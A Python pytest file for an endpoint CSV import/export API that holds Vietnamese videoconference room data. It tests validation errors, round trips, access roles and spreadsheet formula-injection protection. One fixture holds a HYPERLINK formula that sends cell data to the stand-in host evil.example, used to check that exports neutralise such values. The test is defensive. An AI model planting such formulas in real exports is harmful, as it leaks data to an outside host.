"""Endpoint CSV import/export on both databases: all-or-nothing, line numbers, byte-exact round trip."""

from __future__ import annotations

import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session, select

from confsvc.endpoints.models import Endpoint, Room, UnitLevel
from confsvc.users.models import Role
from tests.factories import bearer, make_unit, make_user

HEADER = "serial,unit_code,unit_name,room_name,name,vendor,model,protocol,dial_address,management_ip,firmware,lifecycle_state"

GOOD = "\ufeff" + "\r\n".join([
    HEADER,
    "8201234567,07900,Phường Việt Trì,Điểm cầu UBND Phường Việt Trì,\"Poly, phòng \"\"lớn\"\"\",Poly,G7500,sip,"
    "sip:viettri@vc.phutho.gov.vn,10.25.150.10,10.1.2,active",
    "21023999,08020,Xã Đoan Hùng,Điểm cầu UBND Xã Đoan Hùng,Huawei Đoan Hùng,Huawei,TE30,h323,0210080200,,"
    "V600R019,maintenance",
]) + "\r\n"


@pytest.fixture
def admin_headers(session: Session) -> dict[str, str]:
    province = make_unit(session, code="25", name="Phú Thọ", division_type="tỉnh", level=UnitLevel.province)
    make_unit(session, code="07900", name="Phường Việt Trì", division_type="phường", parent_id=province.id)
    make_unit(session, code="08020", name="Xã Đoan Hùng", division_type="xã", parent_id=province.id)
    headers = bearer(session, make_user(session, Role.admin))
    session.commit()
    return headers


def _import(client: TestClient, headers: dict, data: bytes, **params):
    return client.post("/api/v1/endpoints/import", headers=headers, params=params,
                       files={"file": ("endpoints.csv", data, "text/csv")})


def test_good_file_round_trips_byte_for_byte(client: TestClient, admin_headers: dict, session: Session) -> None:
    response = _import(client, admin_headers, GOOD.encode("utf-8"))
    assert response.status_code == 200, response.text
    assert response.json() == {"created": 2, "updated": 0, "unchanged": 0, "rooms_created": 2, "dry_run": False}
    exported = client.get("/api/v1/endpoints/export.csv", headers=admin_headers)
    assert exported.headers["content-type"] == "text/csv; charset=utf-8"
    assert exported.content == GOOD.encode("utf-8")
    names = sorted(session.exec(select(Room.name)).all())
    assert names == ["Điểm cầu UBND Phường Việt Trì", "Điểm cầu UBND Xã Đoan Hùng"]


def test_reimport_updates_by_serial_instead_of_duplicating(client: TestClient, admin_headers: dict,
                                                           session: Session) -> None:
    assert _import(client, admin_headers, GOOD.encode()).status_code == 200
    again = _import(client, admin_headers, GOOD.encode())
    assert again.json() == {"created": 0, "updated": 0, "unchanged": 2, "rooms_created": 0, "dry_run": False}
    changed = GOOD.replace("10.1.2,active", "10.2.0,active").encode()
    third = _import(client, admin_headers, changed)
    assert third.json()["updated"] == 1
    rows = session.exec(select(Endpoint.serial, Endpoint.firmware).order_by(Endpoint.serial)).all()
    assert rows == [("21023999", "V600R019"), ("8201234567", "10.2.0")]


def test_bad_rows_reject_the_whole_file_with_line_numbers(client: TestClient, admin_headers: dict,
                                                          session: Session) -> None:
    bad = "\r\n".join([
        HEADER,
        "OK-1,07900,,Điểm cầu A,,Poly,G7500,sip,sip:a@vc.phutho.gov.vn,,,",            # line 2: fine
        "BAD-2,99999,,Điểm cầu B,,Poly,G7500,sip,sip:b@vc.phutho.gov.vn,,,",           # line 3: unit
        "BAD-3,07900,,Điểm cầu C,,Poly,G7500,sip,not-a-uri,,,",                         # line 4: dial
        "BAD-4,07900,,Điểm cầu D,,Poly,G7500,sip,sip:d@vc.phutho.gov.vn,10.0.0.300,,",  # line 5: ip
        "OK-1,07900,,Điểm cầu E,,Poly,G7500,sip,sip:e@vc.phutho.gov.vn,,,",            # line 6: repeat
        "BAD-6,07900,,,,Poly,G7500,sip,sip:f@vc.phutho.gov.vn,,,",                      # line 7: empty room
        "BAD-7,07900,,Điểm cầu G,,Poly,G7500,webrtc,sip:g@vc.phutho.gov.vn,,,",        # line 8: protocol
        "BAD-8,07900,,Điểm cầu H,,Poly,G7500,sip,sip:h@vc.phutho.gov.vn,,,broken",     # line 9: lifecycle
    ]) + "\r\n"
    response = _import(client, admin_headers, bad.encode())
    assert response.status_code == 422
    body = response.json()
    assert body["code"] == "invalid_rows"
    assert [{"line": e["line"], "reason": e["reason"]} for e in body["errors"]] == [
        {"line": 3, "reason": "unknown unit code '99999'"},
        {"line": 4, "reason": "not a SIP URI (sip:user@host) or IP address: 'not-a-uri'"},
        {"line": 5, "reason": "not an IP address: '10.0.0.300'"},
        {"line": 6, "reason": "serial 'OK-1' repeats line 2"},
        {"line": 7, "reason": "empty required field(s): room_name"},
        {"line": 8, "reason": "protocol must be sip or h323, not 'webrtc'"},
        {"line": 9, "reason": "lifecycle_state must be active, maintenance or retired, not 'broken'"},
    ]
    assert [[f["code"] for f in e["faults"]] for e in body["errors"]] == [
        ["unknown_unit_code"], ["bad_dial_address"], ["bad_ip"], ["repeated_serial"], ["empty_required"],
        ["bad_protocol"], ["bad_lifecycle"]]
    assert session.exec(select(Endpoint)).all() == []
    assert session.exec(select(Room)).all() == []


def test_csv_row_with_several_faults_reports_every_fault_not_only_the_first(
        client: TestClient, admin_headers: dict) -> None:
    bad = HEADER + "\r\n" + "X-1,99999,,Điểm cầu,,Poly,G7500,webrtc,sip:x@vc.phutho.gov.vn,10.0.0.300,,broken\r\n"
    response = _import(client, admin_headers, bad.encode())
    assert response.status_code == 422
    (error,) = response.json()["errors"]
    assert error["line"] == 2
    assert [(f["code"], f["value"]) for f in error["faults"]] == [
        ("unknown_unit_code", "99999"), ("bad_protocol", "webrtc"), ("bad_lifecycle", "broken"),
        ("bad_ip", "10.0.0.300")]
    assert error["reason"] == ("unknown unit code '99999'; protocol must be sip or h323, not 'webrtc'; "
                               "lifecycle_state must be active, maintenance or retired, not 'broken'; "
                               "not an IP address: '10.0.0.300'")


def test_multiline_field_keeps_line_numbers(client: TestClient, admin_headers: dict) -> None:
    data = (HEADER + "\n" + 'A-1,07900,,"Điểm cầu\nhai dòng",,Poly,G7500,sip,sip:a@vc.phutho.gov.vn,,,\n'
            + "A-2,07900,,Điểm cầu,,Poly,G7500,sip,bad,,,\n")
    response = _import(client, admin_headers, data.encode())
    assert [(e["line"], e["reason"]) for e in response.json()["errors"]] == [
        (4, "not a SIP URI (sip:user@host) or IP address: 'bad'")]


def test_header_problems_are_line_one(client: TestClient, admin_headers: dict) -> None:
    response = _import(client, admin_headers, b"serial,colour\r\nX,red\r\n")
    assert [(e["line"], e["reason"]) for e in response.json()["errors"]] == [(
        1, "missing column(s): unit_code, room_name, vendor, model, protocol, dial_address; "
           "unknown column(s): colour")]


def test_non_utf8_file_is_rejected_with_its_line(client: TestClient, admin_headers: dict) -> None:
    data = (HEADER + "\r\nX,07900,,Điểm cầu,,Poly,G7500,sip,sip:a@b.vn,,,\r\n").encode("utf-8")
    data += "Y,07900,,Đoàn,,Poly,G7500,sip,sip:c@b.vn,,,\r\n".encode("cp1258")
    response = _import(client, admin_headers, data)
    assert response.status_code == 422
    assert response.json()["errors"][0]["line"] == 3


def test_dry_run_writes_nothing(client: TestClient, admin_headers: dict, session: Session) -> None:
    response = _import(client, admin_headers, GOOD.encode(), dry_run="true")
    assert response.json()["dry_run"] is True
    assert session.exec(select(Endpoint)).all() == []


def test_import_needs_admin(client: TestClient, admin_headers: dict, session: Session) -> None:
    viewer = bearer(session, make_user(session, Role.viewer))
    session.commit()
    response = _import(client, viewer, GOOD.encode())
    assert (response.status_code, response.json()["code"]) == (403, "forbidden_role")


# Issue 16 defect 4: names starting with = + - @ were exported raw, so a spreadsheet ran them as formulas.
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
RISKY = "\ufeff" + "\r\n".join([
    HEADER,
    f"'@SN1,07900,Phường Việt Trì,'+Phòng họp,\"'{FORMULA_NAME.replace(chr(34), chr(34) * 2)}\",'-,G7500,h323,"
    "'+842103846123,,'-,active",
    "'=1+1,08020,Xã Đoan Hùng,Phòng 'A',''quoted,Huawei,TE30,sip,sip:doanhung@vc.phutho.gov.vn,,V1,active",
]) + "\r\n"


def test_formula_like_names_are_quoted_in_the_csv_export_and_round_trip(client: TestClient, admin_headers: dict,
                                                                         session: Session) -> None:
    response = _import(client, admin_headers, RISKY.encode("utf-8"))
    assert response.status_code == 200, response.text
    stored = session.exec(select(Endpoint.serial, Endpoint.name, Endpoint.vendor, Endpoint.dial_address,
                                 Endpoint.firmware).order_by(Endpoint.serial)).all()
    assert stored == [("=1+1", "'quoted", "Huawei", "sip:doanhung@vc.phutho.gov.vn", "V1"),
                      ("@SN1", FORMULA_NAME, "-", "+842103846123", "-")]
    assert sorted(session.exec(select(Room.name)).all()) == ["+Phòng họp", "Phòng 'A'"]
    session.rollback()  # end the read: on SQLite the test session's transaction holds the write lock
    exported = client.get("/api/v1/endpoints/export.csv", headers=admin_headers)
    assert exported.content.decode("utf-8") == RISKY
    again = _import(client, admin_headers, exported.content)
    assert again.json() == {"created": 0, "updated": 0, "unchanged": 2, "rooms_created": 0, "dry_run": False}


def test_raw_formula_name_is_exported_with_a_protective_quote(client: TestClient, admin_headers: dict) -> None:
    raw = GOOD.replace('"Poly, phòng ""lớn"""', "@SUM(A1:A9)").replace("Huawei Đoan Hùng", "\tTab")
    assert _import(client, admin_headers, raw.encode("utf-8")).status_code == 200
    lines = client.get("/api/v1/endpoints/export.csv", headers=admin_headers).content.decode("utf-8-sig").split("\r\n")
    assert lines[1].split(",")[4] == "'@SUM(A1:A9)"
    assert lines[2].split(",")[4] == "Tab"  # a leading tab never reaches storage: names are one line
